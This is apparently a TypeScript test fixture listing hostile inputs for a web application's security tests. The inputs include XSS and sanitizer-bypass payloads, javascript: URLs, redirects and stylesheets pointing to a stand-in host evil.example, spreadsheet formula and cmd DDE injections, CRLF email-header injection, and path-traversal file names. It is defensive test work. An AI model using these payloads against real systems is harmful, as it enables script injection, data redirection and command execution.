/** The function that an executed text would call, and the attribute suffix of an element created from a text. */
export const STRUCK = 'struck';

/**
 * Texts that would run, navigate, calculate or break out wherever they were treated as more than text. Each one that
 * runs calls `struck`. Each one that becomes an element carries `data-struck`, so that it is found even if it cannot
 * run.
 */
export const HOSTILE: readonly string[] = [
  // Elements, and texts that break out of attributes, comments and raw text
  '<script data-struck>struck(1)</script>',
  '<img data-struck src=x onerror=struck(2)>',
  '"><svg data-struck onload=struck(3)>',
  `'><p data-struck tabindex=1 autofocus onfocus=struck(4) onpointerenter=struck(4)>x`,
  '</title></style></textarea><img data-struck src=x onerror=struck(5)>',
  '--><img data-struck src=x onerror=struck(6)>',
  '<details data-struck open ontoggle=struck(7)>x',
  '<iframe data-struck srcdoc="<script>parent.struck(8)</script>">',
  '<svg data-struck><animate onbegin=struck(9) attributeName=x dur=1s>',
  // Texts that pass a sanitiser and that a second parser turns into markup
  '<noscript><p title="</noscript><img data-struck src=x onerror=struck(10)>">',
  '<svg></p><style><a id="</style><img data-struck src=x onerror=struck(11)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-struck src=1 onerror=struck(12)&gt;">',
  '&lt;img data-struck src=x onerror=struck(13)&gt;',
  '&#x3C;img data-struck src=x onerror=struck(14)&#x3E;',
  '\\u003cimg data-struck src=x onerror=struck(15)\\u003e',
  // URLs
  'javascript:struck(16)',
  'JaVaScRiPt:struck(17)//https://example.com',
  'java\tscript:struck(18)',
  'data:text/html,<script>parent.struck(19)</script>',
  '<a data-struck href=javascript:struck(20)>x</a>',
  'https://example.com/"onmouseover="struck(21)',
  'https://example.com/<img data-struck src=x onerror=struck(22)>',
  '[x](javascript:struck(23)) ![x](x"onerror="struck(23))',
  '//evil.example/%2e%2e/struck',
  // Ways around a content policy
  '<base data-struck href=//evil.example/>',
  '<meta data-struck http-equiv=refresh content="0;url=//evil.example">',
  '<script data-struck src=/api/views?callback=struck></script>',
  '<form data-struck action=//evil.example><button formaction=javascript:struck(27)>x',
  '<link data-struck rel=stylesheet href=//evil.example/x.css>',
  '<object data-struck data="data:text/html,<script>struck(29)</script>">',
  // Element names that code might look up as globals
  '<form data-struck id=root name=sessionStorage><input id=apiToken>',
  // Templates, and placeholders that `replace` and catalogues interpret in inserted values
  "{{constructor.constructor('struck(31)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  '${struck(32)} #{struck(32)} <%= struck(32) %>',
  '%{name} %{company} %{smart_count} |||| struck',
  "$& $1 $` $' struck",
  // Property names that every object has
  '__proto__',
  'constructor',
  'toString',
  '[object Object] struck',
  '"},"struck":{"',
  // Spreadsheet formulas
  '=HYPERLINK("https://evil.example","struck")',
  '@SUM(1+1)*struck',
  "+2+5+cmd|'/C struck'!A0",
  "-2+3+cmd|'/C struck'!A0",
  '＝1+1 struck',
  '－1 struck',
  // Characters that change direction or hide, and lines that would be headers of an email
  '\u202egnp.kcurts',
  'struck\u200b\u2066 \u2069\ufeff',
  'struck\r\nBcc: struck@evil.example\r\n\r\n<b data-struck>',
  // Email addresses
  '"<img/data-struck/src=x/onerror=struck(48)>"@example.com',
  "struck'onfocus='struck(49)@example.com",
  'struck+=1+1@example.com',
];

/** Names of uploaded files; the multipart format itself excludes quotes and line breaks. */
export const HOSTILE_FILES: readonly string[] = [
  '<img data-struck src=x onerror=struck(90)>.txt',
  '"><svg data-struck onload=struck(91)>.txt',
  'javascript:struck(92).txt',
  '=1+1 struck.txt',
  '\u202etxt.kcurts.txt',
  '../../struck.txt',
  '__proto__.txt',
];

/** Characters that a cell of an export must not begin with (security 3), including their full-width forms. */
export const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
